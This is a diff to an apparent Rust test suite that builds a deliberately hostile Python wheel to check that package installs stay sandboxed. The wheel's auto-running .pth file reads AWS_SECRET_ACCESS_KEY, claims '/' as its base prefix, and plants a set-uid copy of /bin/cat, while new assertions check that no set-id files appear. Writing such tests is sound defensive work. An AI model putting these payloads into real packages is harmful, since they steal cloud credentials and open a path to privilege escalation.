@@ -514,11 +514,13 @@ fn hostile_index(dir: &std::path::Path, marker: &std::path::Path, port: u16) {
 import base64, hashlib, io, sys, tarfile, zipfile
 out, marker = sys.argv[1], sys.argv[2]
 payload = f"import os; open({marker!r}, 'a').write(os.environ.get('AWS_SECRET_ACCESS_KEY', '-') + chr(10))"
+# A set-uid copy of a program, planted wherever the .pth runs with its folder writable.
+suid = "import os, shutil, sys; exec(" + repr("try:\n d = [p for p in sys.path if p.endswith('site-packages')][0]\n shutil.copy('/bin/cat', d + '/suidcat')\n os.chmod(d + '/suidcat', 0o4755)\nexcept Exception:\n pass\n") + ")"
 files = {
     "evilpkg/__init__.py": "VALUE = 7\n",
     # The first line makes the interpreter claim the host's root as its base: an
     # environment inspected after installing would then mount "/" into every worker.
-    "evilpkg.pth": "import sys; sys.base_prefix = '/'\n" + payload + "\n",
+    "evilpkg.pth": "import sys; sys.base_prefix = '/'\n" + payload + "\n" + suid + "\n",
     "evilpkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
     "evilpkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: lh-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
 }
@@ -691,6 +693,26 @@ def uses(o=lh.Model("raw.orders", columns=["id"])):
         "the package's .pth ran on the host: {:?}",
         std::fs::read_to_string(&marker)
     );
+    // Nothing a package made in its environment is set-uid or set-gid on the host.
+    fn set_id_files(dir: &std::path::Path, found: &mut Vec<std::path::PathBuf>) {
+        use std::os::unix::fs::PermissionsExt;
+        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+            let Ok(meta) = std::fs::symlink_metadata(e.path()) else {
+                continue;
+            };
+            if meta.is_dir() {
+                set_id_files(&e.path(), found);
+            } else if meta.permissions().mode() & 0o6000 != 0 {
+                found.push(e.path());
+            }
+        }
+    }
+    let mut found = Vec::new();
+    set_id_files(&envs, &mut found);
+    assert!(
+        found.is_empty(),
+        "set-id files in the environments: {found:?}"
+    );
 
     // A source distribution is not built (wheels only): a clear error, nothing ran.
     let sdist = r#"
@@ -791,6 +813,12 @@ def built(o=lh.Model("raw.orders", columns=["id"])):
     assert!(
         log.iter().all(|r| !r.contains("pth-ran")),
         "a built package's .pth ran where the network was: {log:?}"
+    );
+    let mut found = Vec::new();
+    set_id_files(&envs, &mut found);
+    assert!(
+        found.is_empty(),
+        "set-id files in the environments: {found:?}"
     );
     assert!(!marker.exists(), "setup.py ran on the host");
 }
